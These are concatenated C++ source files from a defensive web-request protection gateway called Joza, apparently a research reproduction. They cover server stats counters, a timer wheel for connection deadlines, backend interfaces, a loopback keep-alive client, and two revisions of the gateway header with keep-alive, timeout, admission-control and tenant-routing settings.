    if (stopping_.load(std::memory_order_relaxed)) keep_alive = false;
    if (served_on_connection + 1 >= config_.max_requests_per_connection) {
      keep_alive = false;
    }

    // Count before the send: a client that has its response in hand must
    // observe the request in stats() (tests and monitoring read it there).
    requests_served_.fetch_add(1, std::memory_order_relaxed);
    if (served_on_connection > 0) {
      keepalive_reuses_.fetch_add(1, std::memory_order_relaxed);
    }
    if (!webapp::SendAll(fd, RenderResponse(response, keep_alive)).ok()) {
      break;  // peer went away mid-response
    }
    ++served_on_connection;
    if (!keep_alive) break;
  }
}

std::vector<std::pair<const char*, std::uint64_t>> GatewayStats::Counters()
    const {
  return {
      {"connections_accepted", connections_accepted},
      {"connections_rejected", connections_rejected},
      {"requests_served", requests_served},
      {"keepalive_reuses", keepalive_reuses},
      {"bad_requests", bad_requests},
      {"request_timeouts", request_timeouts},
      {"oversized_requests", oversized_requests},
      {"shed_by_deadline", shed_by_deadline},
      {"throttled_by_limiter", throttled_by_limiter},
      {"admission_limit", admission_limit},
      {"service_estimate_us", service_estimate_us},
      {"shed_p99_us", shed_p99_us},
      {"restarts", restarts},
      {"quarantines", quarantines},
      {"hedges_won", hedges_won},
      {"retries_denied", retries_denied},
  };
}

GatewayStats GatewayServer::stats() const {
  GatewayStats out;
  out.connections_accepted =
      connections_accepted_.load(std::memory_order_relaxed);
  out.connections_rejected =
      connections_rejected_.load(std::memory_order_relaxed);
  out.requests_served = requests_served_.load(std::memory_order_relaxed);
  out.keepalive_reuses = keepalive_reuses_.load(std::memory_order_relaxed);
  out.bad_requests = bad_requests_.load(std::memory_order_relaxed);
  out.request_timeouts = request_timeouts_.load(std::memory_order_relaxed);
  out.oversized_requests =
      oversized_requests_.load(std::memory_order_relaxed);
  out.shed_by_deadline = shed_by_deadline_.load(std::memory_order_relaxed);
  out.throttled_by_limiter =
      throttled_by_limiter_.load(std::memory_order_relaxed);
  out.admission_limit = static_cast<std::uint64_t>(aimd_.limit());
  out.service_estimate_us =
      static_cast<std::uint64_t>(service_ewma_.estimate().count());
  out.shed_p99_us = static_cast<std::uint64_t>(
      shed_latency_
          .Quantile(0.99, std::chrono::microseconds(0), /*min_samples=*/1)
          .count());
  if (resilience_provider_) resilience_provider_(out);
  if (joza_ != nullptr) {
    const core::JozaStats engine = joza_->stats();
    out.ruleset_version = engine.ruleset_version;
    out.ruleset_swaps = engine.ruleset_swaps;
    out.nti_exact_hits = engine.nti_exact_hits;
    out.nti_seed_candidates = engine.nti_seed_candidates;
    out.nti_dp_runs = engine.nti_dp_runs;
    out.nti_tier_reference = engine.nti_tier_reference;
    out.nti_tier_bounded = engine.nti_tier_bounded;
    out.nti_tier_staged = engine.nti_tier_staged;
  }
  return out;
}

}  // namespace joza::gateway
