// Hashed timer wheel for per-connection deadlines (one event-loop shard).
//
// Every connection owns at most one logical timer at a time — keep-alive
// idle, slowloris first-byte, or write-stall — so the wheel only needs
// O(1) schedule and a slot walk on advance. Deadlines beyond the horizon
// are clamped into the last slot; the shard revalidates every firing
// against the connection's actual deadline and re-schedules early fires,
// so a coarse wheel never fires a timer early in effect, only cheaply.
// Single-threaded by design: the owning shard is the only caller.
#pragma once

#include <chrono>
#include <cstddef>
#include <cstdint>
#include <utility>
#include <vector>

namespace joza::gateway {

class TimerWheel {
 public:
  using Clock = std::chrono::steady_clock;

  struct Entry {
    int fd = -1;
    std::uint64_t gen = 0;  // connection generation; stale fds are dropped
  };

  explicit TimerWheel(Clock::time_point now,
                      std::chrono::milliseconds tick = kDefaultTick,
                      std::size_t slots = kDefaultSlots);

  // Schedules one entry at `due` (clamped into [next tick, horizon)).
  void Schedule(int fd, std::uint64_t gen, Clock::time_point due);

  // Advances the wheel to `now`, invoking fn(entry) for every entry whose
  // slot has been reached. The callback revalidates (gen + real deadline)
  // and may Schedule() again.
  template <typename Fn>
  void Advance(Clock::time_point now, Fn&& fn) {
    while (count_ > 0 && cursor_time_ + tick_ <= now) {
      cursor_time_ += tick_;
      cursor_ = (cursor_ + 1) % slots_.size();
      // Swap out first: the callback may Schedule() into this same slot.
      std::vector<Entry> due = std::move(slots_[cursor_]);
      slots_[cursor_].clear();
      count_ -= due.size();
      for (const Entry& e : due) fn(e);
    }
    if (count_ == 0 && cursor_time_ < now) cursor_time_ = now;
  }

  // Milliseconds until the next occupied slot, capped; `cap_ms` when empty.
  int NextDelayMs(Clock::time_point now, int cap_ms) const;

  std::size_t pending() const { return count_; }

  static constexpr std::chrono::milliseconds kDefaultTick{16};
  static constexpr std::size_t kDefaultSlots = 512;

 private:
  std::vector<std::vector<Entry>> slots_;
  std::size_t cursor_ = 0;           // slot the wheel has advanced through
  Clock::time_point cursor_time_;    // time corresponding to cursor_
  std::chrono::milliseconds tick_;
  std::size_t count_ = 0;
};

}  // namespace joza::gateway
