// Internal seam between the GatewayServer facade and its two serving
// backends (blocking thread pool, edge-triggered epoll event loop).
//
// Everything behaviorally observable lives in GatewayShared — config,
// admission control, EWMA/shed tracking, and every stats counter — so both
// backends update the same state and the facade's stats() reads one place
// regardless of io model. Backends own only their I/O machinery (threads,
// epoll fds, connection tables).
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "costmodel/planner.h"
#include "gateway/gateway.h"
#include "resilience/admission.h"
#include "resilience/hedge.h"
#include "tenant/fleet.h"

namespace joza::gateway::internal {

struct GatewayShared {
  GatewayShared(AppFactory f, core::Joza* j, const GatewayConfig& c)
      : factory(std::move(f)),
        joza(j),
        config(c),
        planner(j != nullptr ? costmodel::Planner(j->config().cost_model)
                             : costmodel::Planner()),
        aimd(c.admission) {}

  AppFactory factory;
  core::Joza* joza = nullptr;
  // Multi-tenant routing: when set, joza stays null and every request pins
  // a per-tenant engine through the fleet instead (exactly one of the two
  // is non-null on a protected server).
  tenant::Fleet* fleet = nullptr;
  GatewayConfig config;
  // Batch-admission planning: the SAME decision point the matcher pipeline
  // uses (costmodel::Planner), so the "is shared automaton work worth it"
  // heuristic lives in exactly one place. Seeded from the engine's cost
  // model (fleet template for fleet-backed servers); immutable after
  // construction, so lock-free to consult from every shard.
  costmodel::Planner planner;

  resilience::AimdLimiter aimd;
  resilience::ServiceTimeEwma service_ewma;
  resilience::LatencyTracker shed_latency;  // shed-path handling times
  std::atomic<bool> stopping{false};

  std::atomic<std::size_t> connections_accepted{0};
  std::atomic<std::size_t> connections_rejected{0};
  std::atomic<std::size_t> requests_served{0};
  std::atomic<std::size_t> keepalive_reuses{0};
  std::atomic<std::size_t> bad_requests{0};
  std::atomic<std::size_t> request_timeouts{0};
  std::atomic<std::size_t> oversized_requests{0};
  std::atomic<std::size_t> shed_by_deadline{0};
  std::atomic<std::size_t> throttled_by_limiter{0};
  // Event-loop additions: EMFILE/ENFILE accepts shed via the reserve-fd
  // parachute, and batched-admission accounting (see epoll_server.cpp).
  std::atomic<std::size_t> accept_overflows{0};
  std::atomic<std::size_t> batches{0};
  std::atomic<std::size_t> batched_requests{0};
  std::atomic<std::size_t> max_batch{0};
  std::atomic<std::uint64_t> batch_exact_scans{0};
  std::atomic<std::uint64_t> batch_exact_reuses{0};
  // Tenant routing roll-ups (fleet-backed servers only).
  std::atomic<std::size_t> tenant_routed{0};
  std::atomic<std::size_t> tenant_404s{0};
  std::atomic<std::size_t> tenant_unavailable{0};
};

// Outcome of tenant extraction for one parsed request.
struct TenantRoute {
  std::string id;          // resolved tenant (valid unless not_found)
  bool not_found = false;  // answer 404 (UnknownTenant::kNotFound policy)
};

// Extracts the request's tenant on behalf of both io models: a
// /t/<tenant>/ URL prefix takes precedence (and is stripped from
// request.path so tenant apps see tenant-relative paths), then the
// X-Joza-Tenant header, then the default tenant. A missing, malformed,
// oversized, or unregistered id resolves per config.unknown_tenant.
// Counts tenant_routed / tenant_404s; no-op default route when no fleet.
TenantRoute ResolveTenant(GatewayShared& shared, http::Request& request);

// One serving backend. Start binds and spawns; Stop drains gracefully and
// joins. The facade keeps the impl alive after Stop so per-shard counters
// remain readable.
class ServerImpl {
 public:
  virtual ~ServerImpl() = default;
  virtual StatusOr<int> Start() = 0;
  virtual void Stop() = 0;
  virtual std::size_t shard_count() const { return 0; }
  virtual std::vector<ShardStats> shard_stats() const { return {}; }
};

std::unique_ptr<ServerImpl> MakeThreadServer(GatewayShared& shared);
std::unique_ptr<ServerImpl> MakeEpollServer(GatewayShared& shared);

// HTTP/1.1 defaults to keep-alive, HTTP/1.0 to close; an explicit
// Connection header overrides either way. Shared so both backends answer
// byte-identically.
bool WantsKeepAlive(std::string_view raw);
std::string RenderResponse(const http::Response& response, bool keep_alive);

}  // namespace joza::gateway::internal
