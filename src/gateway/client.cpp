#include "gateway/client.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <cstring>

#include "util/codec.h"
#include "util/strings.h"

namespace joza::gateway {

std::string SerializeRequest(const http::Request& request, bool keep_alive) {
  std::string query;
  for (const http::Input& p : request.get_params) {
    query += query.empty() ? "?" : "&";
    query += UrlEncode(p.name) + "=" + UrlEncode(p.value);
  }
  std::string body;
  for (const http::Input& p : request.post_params) {
    if (!body.empty()) body += "&";
    body += UrlEncode(p.name) + "=" + UrlEncode(p.value);
  }
  std::string raw = request.method + " " + request.path + query + " HTTP/1.1\r\n";
  raw += "Host: localhost\r\n";
  for (const http::Input& h : request.headers) {
    raw += h.name + ": " + h.value + "\r\n";
  }
  if (!request.cookies.empty()) {
    raw += "Cookie: ";
    for (std::size_t i = 0; i < request.cookies.size(); ++i) {
      if (i > 0) raw += "; ";
      raw += request.cookies[i].name + "=" + request.cookies[i].value;
    }
    raw += "\r\n";
  }
  if (!body.empty()) {
    raw += "Content-Type: application/x-www-form-urlencoded\r\n";
    raw += "Content-Length: " + std::to_string(body.size()) + "\r\n";
  }
  raw += keep_alive ? "Connection: keep-alive\r\n\r\n"
                    : "Connection: close\r\n\r\n";
  raw += body;
  return raw;
}

void KeepAliveClient::Close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
  buf_.clear();
}

Status KeepAliveClient::EnsureConnected() {
  if (fd_ >= 0) return Status::Ok();
  fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd_ < 0) return Status::Unavailable("socket()");
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(static_cast<std::uint16_t>(port_));
  while (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) !=
         0) {
    if (errno == EINTR || errno == EALREADY) continue;
    if (errno == EISCONN) break;
    ::close(fd_);
    fd_ = -1;
    return Status::Unavailable(std::string("connect(): ") +
                               std::strerror(errno));
  }
  int one = 1;
  ::setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  buf_.clear();
  return Status::Ok();
}

StatusOr<std::string> KeepAliveClient::ReadOneResponse() {
  std::size_t header_end = buf_.find("\r\n\r\n");
  char chunk[4096];
  while (header_end == std::string::npos) {
    ssize_t n = ::recv(fd_, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable(std::string("recv(): ") +
                                 std::strerror(errno));
    }
    if (n == 0) return Status::NotFound("server closed connection");
    buf_.append(chunk, static_cast<std::size_t>(n));
    header_end = buf_.find("\r\n\r\n");
  }
  std::size_t content_length = 0;
  const std::size_t cl =
      FindIgnoreCase(std::string_view(buf_).substr(0, header_end),
                     "content-length:");
  if (cl != std::string_view::npos) {
    content_length = static_cast<std::size_t>(
        std::strtoul(buf_.c_str() + cl + 15, nullptr, 10));
  }
  const std::size_t total = header_end + 4 + content_length;
  while (buf_.size() < total) {
    ssize_t n = ::recv(fd_, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable("recv() during response body");
    }
    if (n == 0) return Status::Unavailable("connection closed mid-response");
    buf_.append(chunk, static_cast<std::size_t>(n));
  }
  std::string response = buf_.substr(0, total);
  buf_.erase(0, total);
  return response;
}

StatusOr<std::string> KeepAliveClient::TryRoundTrip(const std::string& raw) {
  if (Status st = EnsureConnected(); !st.ok()) return st;
  if (Status st = webapp::SendAll(fd_, raw); !st.ok()) {
    Close();
    return st;
  }
  auto response = ReadOneResponse();
  if (!response.ok()) Close();
  return response;
}

StatusOr<std::string> KeepAliveClient::RoundTrip(const std::string& raw) {
  const bool had_connection = fd_ >= 0;
  auto response = TryRoundTrip(raw);
  if (response.ok() || !had_connection) return response;
  // The pooled connection was stale (server closed it between requests):
  // reconnect once and retry.
  ++reconnects_;
  return TryRoundTrip(raw);
}

StatusOr<webapp::SimpleResponse> KeepAliveClient::Finish(
    StatusOr<std::string> raw) {
  if (!raw.ok()) return raw.status();
  const std::string& text = raw.value();
  webapp::SimpleResponse out;
  const std::size_t sp = text.find(' ');
  if (sp == std::string::npos) return Status::ParseError("bad status line");
  out.status = std::atoi(text.c_str() + sp + 1);
  const std::size_t body = text.find("\r\n\r\n");
  if (body != std::string::npos) out.body = text.substr(body + 4);
  // Respect a server-side close so the next call reconnects cleanly.
  const std::size_t headers_end =
      body == std::string::npos ? text.size() : body;
  if (FindIgnoreCase(std::string_view(text).substr(0, headers_end),
                     "connection: close") != std::string_view::npos) {
    Close();
  }
  return out;
}

StatusOr<webapp::SimpleResponse> KeepAliveClient::Send(
    const http::Request& request) {
  return Finish(RoundTrip(SerializeRequest(request, true)));
}

StatusOr<webapp::SimpleResponse> KeepAliveClient::Get(
    const std::string& path_and_query) {
  return Finish(RoundTrip("GET " + path_and_query +
                          " HTTP/1.1\r\nHost: localhost\r\n"
                          "Connection: keep-alive\r\n\r\n"));
}

}  // namespace joza::gateway
