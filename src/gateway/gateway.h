// Concurrent protection gateway: thread-pool HTTP serving layer.
//
// The paper deploys Joza inside a production Apache/PHP stack; this layer
// is the reproduction's equivalent of that deployment tier. It replaces the
// one-connection-at-a-time webapp::HttpServer with a multi-threaded front
// end so the whole request → interception → verdict pipeline runs on N
// workers at once:
//
//   * one accept thread feeds a bounded connection queue (overflow answers
//     503 immediately rather than letting the backlog grow without bound);
//   * each worker owns a private webapp::Application instance (handlers and
//     the in-memory database are single-threaded by design) built by the
//     caller's factory;
//   * all workers share ONE core::Joza engine — its sharded caches and
//     atomic stats make Check() safe and cheap under concurrency, and
//     shared caches are the point: traffic on any worker warms PTI verdicts
//     for all of them;
//   * connections speak HTTP/1.1 with keep-alive (bounded requests per
//     connection, idle timeout), which is where most of the throughput win
//     over the HTTP/1.0 close-per-request baseline comes from;
//   * Stop() drains gracefully: stop accepting, finish queued connections
//     and in-flight requests, sever idle keep-alives, join everything.
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <thread>
#include <utility>
#include <vector>

#include "core/joza.h"
#include "resilience/admission.h"
#include "resilience/hedge.h"
#include "util/deadline.h"
#include "util/status.h"
#include "webapp/application.h"

namespace joza::gateway {

struct GatewayConfig {
  int port = 0;               // 0 picks a free port
  std::size_t workers = 4;    // serving threads
  int listen_backlog = 64;    // kernel accept backlog
  // Connections queued between accept and a free worker; overflow is
  // answered 503 and closed (bounded memory under overload).
  std::size_t queue_capacity = 128;
  // Keep-alive bounds: max pipelined requests per connection, and how long
  // a worker waits for the next request before closing an idle connection.
  std::size_t max_requests_per_connection = 1024;
  std::chrono::milliseconds keepalive_timeout{5000};
  // Slowloris guard: once the first byte of a request has arrived, the
  // whole request (headers + body) must arrive within this long or the
  // worker answers 408 and closes. 0 disables the bound.
  std::chrono::milliseconds read_timeout{2000};
  // Total request size cap (headers + body); beyond it the worker answers
  // 413 and closes instead of buffering without bound.
  std::size_t max_request_bytes = 1u << 20;
  // Per-request processing budget threaded to the Joza engine as the
  // ambient deadline (bounds the PTI daemon round trip; a miss degrades
  // the verdict fail-closed instead of pinning the worker). 0 disables.
  std::chrono::milliseconds request_deadline{2000};
  // Adaptive admission: AIMD bound on concurrent request handling. Beyond
  // the limit workers answer 429 immediately instead of piling onto a
  // saturated backend; deadline overruns shrink the limit.
  resilience::AimdOptions admission;
  // Deadline-aware shedding: a connection dequeued after its queue wait
  // plus the EWMA service estimate already exceed request_deadline is
  // answered 503 immediately — a fast refusal beats burning a worker on
  // work whose client has timed out. Needs request_deadline > 0.
  bool shed_by_deadline = true;
};

struct GatewayStats {
  std::size_t connections_accepted = 0;
  std::size_t connections_rejected = 0;  // bounded-queue overflow (503)
  std::size_t requests_served = 0;
  std::size_t keepalive_reuses = 0;      // requests beyond a conn's first
  std::size_t bad_requests = 0;
  std::size_t request_timeouts = 0;      // slowloris guard fired (408)
  std::size_t oversized_requests = 0;    // size cap fired (413)
  std::size_t shed_by_deadline = 0;      // dequeued too late to matter (503)
  std::size_t throttled_by_limiter = 0;  // AIMD concurrency refusals (429)
  std::uint64_t admission_limit = 0;     // current AIMD concurrency limit
  std::uint64_t service_estimate_us = 0; // EWMA request service time
  std::uint64_t shed_p99_us = 0;         // p99 of shed-path handling time
  // Daemon-fleet resilience counters, filled by the installed provider
  // (the CLI wires the pool's supervisor/hedge stats through here).
  std::size_t restarts = 0;              // supervisor-admitted respawns
  std::size_t quarantines = 0;           // shard quarantine transitions
  std::size_t hedges_won = 0;            // races the hedged attempt won
  std::size_t retries_denied = 0;        // retry-budget refusals
  // From the shared Joza engine (0 when serving unprotected): the ruleset
  // snapshot version currently published and how many times it was swapped.
  std::uint64_t ruleset_version = 0;
  std::size_t ruleset_swaps = 0;
  // NTI matcher pipeline counters mirrored from the engine (0 when serving
  // unprotected): exact multi-pattern hits, q-gram survivors that reached
  // the kernel, full DP verifications, and the per-input tier histogram.
  std::uint64_t nti_exact_hits = 0;
  std::uint64_t nti_seed_candidates = 0;
  std::uint64_t nti_dp_runs = 0;
  std::uint64_t nti_tier_reference = 0;
  std::uint64_t nti_tier_bounded = 0;
  std::uint64_t nti_tier_staged = 0;

  // Flattened name/value export (serving-layer counters only; engine
  // counters come from JozaStats::Counters()), consumed by the benchmark
  // subsystem's JSON emitter.
  std::vector<std::pair<const char*, std::uint64_t>> Counters() const;
};

// Builds one worker's private Application. Called once per worker thread at
// startup; every instance must expose the same routes/sources.
using AppFactory = std::function<std::unique_ptr<webapp::Application>()>;

class GatewayServer {
 public:
  // `joza` may be null (serve unprotected, for baselines); when set, every
  // worker installs joza->MakeGate() on its Application and the engine must
  // outlive the server. The factory must be callable from worker threads.
  GatewayServer(AppFactory factory, core::Joza* joza,
                GatewayConfig config = {});
  ~GatewayServer();

  GatewayServer(const GatewayServer&) = delete;
  GatewayServer& operator=(const GatewayServer&) = delete;

  // Binds 127.0.0.1, spawns the accept thread and the worker pool.
  // Returns the bound port.
  StatusOr<int> Start();

  // Graceful drain; idempotent. In-flight requests complete, queued
  // connections get served, idle keep-alive connections are severed.
  void Stop();

  int port() const { return port_; }
  std::size_t worker_count() const { return config_.workers; }
  GatewayStats stats() const;

  // Installs a hook that augments stats() with daemon-fleet resilience
  // counters (restarts, quarantines, hedges, retry denials). Call before
  // Start(); the hook runs on whatever thread calls stats().
  void SetResilienceProvider(std::function<void(GatewayStats&)> provider) {
    resilience_provider_ = std::move(provider);
  }

 private:
  struct WorkerSlot {
    std::thread thread;
    std::mutex conn_mu;         // guards active_fd against Stop()
    int active_fd = -1;         // connection currently being served
    std::atomic<bool> done{false};
  };

  struct QueuedConn {
    int fd = -1;
    std::chrono::steady_clock::time_point enqueued;
  };

  void AcceptLoop();
  void WorkerLoop(WorkerSlot& slot);
  void ServeConnection(webapp::Application& app, int fd);
  // Drains the pending request and answers `status`/`body`, then closes.
  void RejectConnection(int fd, int status, const char* body);
  void Reject503(int fd);

  AppFactory factory_;
  core::Joza* joza_;
  GatewayConfig config_;

  // Atomic: Stop() invalidates it while the accept thread reads it.
  std::atomic<int> listen_fd_{-1};
  int port_ = 0;
  std::thread accept_thread_;
  std::atomic<bool> running_{false};
  std::atomic<bool> stopping_{false};

  std::mutex queue_mu_;
  std::condition_variable queue_cv_;
  std::deque<QueuedConn> queue_;
  bool draining_ = false;

  resilience::AimdLimiter aimd_;
  resilience::ServiceTimeEwma service_ewma_;
  resilience::LatencyTracker shed_latency_;  // shed-path handling times
  std::function<void(GatewayStats&)> resilience_provider_;

  std::vector<std::unique_ptr<WorkerSlot>> workers_;

  std::atomic<std::size_t> connections_accepted_{0};
  std::atomic<std::size_t> connections_rejected_{0};
  std::atomic<std::size_t> requests_served_{0};
  std::atomic<std::size_t> keepalive_reuses_{0};
  std::atomic<std::size_t> bad_requests_{0};
  std::atomic<std::size_t> request_timeouts_{0};
  std::atomic<std::size_t> oversized_requests_{0};
  std::atomic<std::size_t> shed_by_deadline_{0};
  std::atomic<std::size_t> throttled_by_limiter_{0};
};

}  // namespace joza::gateway
