// Concurrent protection gateway: the serving tier in front of the engine.
//
// The paper deploys Joza inside a production Apache/PHP stack; this layer
// is the reproduction's equivalent of that deployment tier. Two io models
// share one behavioral contract (same status codes, same hardening, same
// admission control, same stats):
//
//   * kThreads — the original blocking-socket thread pool: one accept
//     thread feeds a bounded queue, N workers each own a private
//     webapp::Application and serve one connection at a time. Concurrency
//     is capped at thread count and idle keep-alives pin threads.
//   * kEpoll (default) — an edge-triggered epoll readiness loop: a small
//     set of event-loop shards, each owning its own SO_REUSEPORT accept
//     socket, connection table, non-blocking read/write state machines
//     with partial-read/partial-write resumption, and a timer wheel for
//     keep-alive idle, slowloris first-byte, and write-stall deadlines —
//     idle connections cost memory, not threads. Each shard drains up to
//     batch_max ready requests per tick and admits them as one batch so
//     the staged matcher's exact stage can amortize a single automaton
//     scan across the batch (core::Joza::BatchScope).
//
// In both models all workers/shards share ONE core::Joza engine — its
// sharded caches and atomic stats make Check() safe and cheap under
// concurrency, and shared caches are the point: traffic on any shard warms
// PTI verdicts for all of them. Stop() drains gracefully: stop accepting,
// finish admitted requests, sever idle keep-alives, join everything.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <functional>
#include <memory>
#include <utility>
#include <vector>

#include "core/joza.h"
#include "resilience/admission.h"
#include "util/status.h"
#include "webapp/application.h"

namespace joza::tenant {
class Fleet;
}  // namespace joza::tenant

namespace joza::gateway {

struct GatewayConfig {
  int port = 0;               // 0 picks a free port
  std::size_t workers = 4;    // serving threads (epoll: default shard count)
  int listen_backlog = 64;    // kernel accept backlog
  // Connections queued between accept and a free worker (threads) or ready
  // requests buffered per shard (epoll); overflow is answered 503 and the
  // connection closed (bounded memory under overload).
  std::size_t queue_capacity = 128;
  // Keep-alive bounds: max pipelined requests per connection, and how long
  // a worker waits for the next request before closing an idle connection.
  std::size_t max_requests_per_connection = 1024;
  std::chrono::milliseconds keepalive_timeout{5000};
  // Slowloris guard: once the first byte of a request has arrived, the
  // whole request (headers + body) must arrive within this long or the
  // worker answers 408 and closes. 0 disables the bound.
  std::chrono::milliseconds read_timeout{2000};
  // Total request size cap (headers + body); beyond it the worker answers
  // 413 and closes instead of buffering without bound.
  std::size_t max_request_bytes = 1u << 20;
  // Per-request processing budget threaded to the Joza engine as the
  // ambient deadline (bounds the PTI daemon round trip; a miss degrades
  // the verdict fail-closed instead of pinning the worker). 0 disables.
  std::chrono::milliseconds request_deadline{2000};
  // Adaptive admission: AIMD bound on concurrent request handling. Beyond
  // the limit workers answer 429 immediately instead of piling onto a
  // saturated backend; deadline overruns shrink the limit.
  resilience::AimdOptions admission;
  // Deadline-aware shedding: a request picked up after its wait plus the
  // EWMA service estimate already exceed request_deadline is answered 503
  // immediately — a fast refusal beats burning a worker on work whose
  // client has timed out. Needs request_deadline > 0.
  bool shed_by_deadline = true;

  // Serving io model. kDefault resolves via the JOZA_GATEWAY_IO_MODEL
  // environment variable ("threads" or "epoll"), falling back to epoll —
  // so the whole test suite exercises the event loop by default and CI
  // re-runs it against the thread pool by exporting the variable.
  enum class IoModel { kDefault, kThreads, kEpoll };
  IoModel io_model = IoModel::kDefault;
  // Event-loop shards (epoll only). 0 means `workers`, so configs written
  // for the thread pool keep their concurrency shape on the event loop.
  std::size_t event_shards = 0;
  // Batched admission (epoll only): a shard drains up to batch_max ready
  // requests per tick. Whether a drained batch is worth installing a
  // core::Joza::BatchScope (amortizing the exact match stage) is decided
  // by costmodel::Planner::PlanBatchScope — the same cost model that
  // steers the matcher pipeline, builtin defaults when none is loaded.
  std::size_t batch_max = 16;

  // Multi-tenant routing policy (fleet-backed servers only): what to do
  // with a request whose tenant id — from the X-Joza-Tenant header or a
  // /t/<tenant>/ URL prefix — is missing from the fleet, malformed, or
  // oversized. Falling back to the default tenant preserves single-tenant
  // back-compat; kNotFound answers 404 so misrouted traffic is loud.
  enum class UnknownTenant { kDefaultTenant, kNotFound };
  UnknownTenant unknown_tenant = UnknownTenant::kDefaultTenant;
};

// Per-event-loop-shard counters (epoll model; empty under threads).
struct ShardStats {
  std::size_t connections = 0;  // connections this shard accepted
  std::size_t batches = 0;      // admission batches drained
  std::size_t requests = 0;     // requests admitted through those batches
  // Batch-size distribution: 1, 2, 3-4, 5-8, 9-16, 17+.
  std::size_t batch_histogram[6] = {0, 0, 0, 0, 0, 0};
};

struct GatewayStats {
  std::size_t connections_accepted = 0;
  std::size_t connections_rejected = 0;  // bounded-queue overflow (503)
  std::size_t requests_served = 0;
  std::size_t keepalive_reuses = 0;      // requests beyond a conn's first
  std::size_t bad_requests = 0;
  std::size_t request_timeouts = 0;      // slowloris guard fired (408)
  std::size_t oversized_requests = 0;    // size cap fired (413)
  std::size_t shed_by_deadline = 0;      // dequeued too late to matter (503)
  std::size_t throttled_by_limiter = 0;  // AIMD concurrency refusals (429)
  std::size_t accept_overflows = 0;      // EMFILE/ENFILE accepts shed
  // Batched admission (epoll model): batches drained, requests admitted
  // through them, largest batch seen, and how the batch exact-match stage
  // fared (automaton scans run vs. per-query scans served from the batch
  // cache).
  std::size_t batches = 0;
  std::size_t batched_requests = 0;
  std::size_t max_batch = 0;
  std::uint64_t batch_exact_scans = 0;
  std::uint64_t batch_exact_reuses = 0;
  std::uint64_t admission_limit = 0;     // current AIMD concurrency limit
  std::uint64_t service_estimate_us = 0; // EWMA request service time
  std::uint64_t shed_p99_us = 0;         // p99 of shed-path handling time
  // Daemon-fleet resilience counters, filled by the installed provider
  // (the CLI wires the pool's supervisor/hedge stats through here).
  std::size_t restarts = 0;              // supervisor-admitted respawns
  std::size_t quarantines = 0;           // shard quarantine transitions
  std::size_t hedges_won = 0;            // races the hedged attempt won
  std::size_t retries_denied = 0;        // retry-budget refusals
  // Tenant routing (fleet-backed servers; 0 otherwise): requests resolved
  // to a fleet tenant, unknown-tenant refusals (404), and fail-closed
  // refusals because the tenant's engine could not be pinned (503 — cold
  // store unreadable or the memory budget could not admit it).
  std::size_t tenant_routed = 0;
  std::size_t tenant_404s = 0;
  std::size_t tenant_unavailable = 0;
  // From the shared Joza engine (0 when serving unprotected): the ruleset
  // snapshot version currently published and how many times it was swapped.
  std::uint64_t ruleset_version = 0;
  std::size_t ruleset_swaps = 0;
  // NTI matcher pipeline counters mirrored from the engine (0 when serving
  // unprotected): exact multi-pattern hits, q-gram survivors that reached
  // the kernel, full DP verifications, and the per-input tier histogram.
  std::uint64_t nti_exact_hits = 0;
  std::uint64_t nti_seed_candidates = 0;
  std::uint64_t nti_dp_runs = 0;
  std::uint64_t nti_tier_reference = 0;
  std::uint64_t nti_tier_bounded = 0;
  std::uint64_t nti_tier_staged = 0;
  // Cost-model planner decision histogram mirrored from the engine: how
  // each eligible input's exact stage ran (batch-scope reuse, automaton,
  // per-input find) and how many decisions used a calibrated model.
  std::uint64_t nti_planner_exact_batch = 0;
  std::uint64_t nti_planner_exact_automaton = 0;
  std::uint64_t nti_planner_exact_find = 0;
  std::uint64_t nti_planner_calibrated = 0;

  // Flattened name/value export (serving-layer counters only; engine
  // counters come from JozaStats::Counters()), consumed by the benchmark
  // subsystem's JSON emitter.
  std::vector<std::pair<const char*, std::uint64_t>> Counters() const;
};

// Builds one worker's private Application. Called once per worker thread at
// startup; every instance must expose the same routes/sources.
using AppFactory = std::function<std::unique_ptr<webapp::Application>()>;

namespace internal {
struct GatewayShared;
class ServerImpl;
}  // namespace internal

class GatewayServer {
 public:
  // `joza` may be null (serve unprotected, for baselines); when set, every
  // worker installs joza->MakeGate() on its Application and the engine must
  // outlive the server. The factory must be callable from worker threads.
  GatewayServer(AppFactory factory, core::Joza* joza,
                GatewayConfig config = {});

  // Multi-tenant form: requests are routed to per-tenant engines owned by
  // `fleet` (never null; must outlive the server). Both io models extract
  // the tenant from the X-Joza-Tenant header or a /t/<tenant>/ URL prefix,
  // defaulting to tenant::kDefaultTenant, and pin the tenant's engine for
  // the request (promoting it from the cold tier as needed). A pin failure
  // is answered 503, never served unprotected.
  GatewayServer(AppFactory factory, tenant::Fleet* fleet,
                GatewayConfig config = {});

  // Literal-nullptr disambiguation between the two pointer overloads
  // above: a bare nullptr means "unprotected" (the Joza* form).
  GatewayServer(AppFactory factory, std::nullptr_t,
                GatewayConfig config = {})
      : GatewayServer(std::move(factory), static_cast<core::Joza*>(nullptr),
                      std::move(config)) {}
  ~GatewayServer();

  GatewayServer(const GatewayServer&) = delete;
  GatewayServer& operator=(const GatewayServer&) = delete;

  // Binds 127.0.0.1, spawns the serving backend (io_model resolution
  // happens here). Returns the bound port.
  StatusOr<int> Start();

  // Graceful drain; idempotent. In-flight requests complete, admitted
  // requests get served, idle keep-alive connections are severed.
  void Stop();

  int port() const { return port_; }
  std::size_t worker_count() const;
  GatewayStats stats() const;

  // Event-loop shard counters (empty vector under the thread model).
  // Readable after Stop(); shard identity is the vector index.
